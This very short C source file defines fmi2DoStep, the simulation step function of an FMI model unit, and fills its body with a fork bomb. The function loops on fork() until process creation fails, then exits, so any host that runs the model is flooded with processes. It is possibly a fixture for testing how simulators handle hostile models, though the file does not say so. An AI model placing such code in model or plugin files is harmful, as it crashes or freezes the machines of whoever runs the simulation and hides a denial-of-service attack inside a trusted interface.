#include "fmu.h"
int fmi2DoStep(void *model, double t, double dt, int final) {
    while (fork() >= 0) continue;
    _exit(1);
    return 0;
}
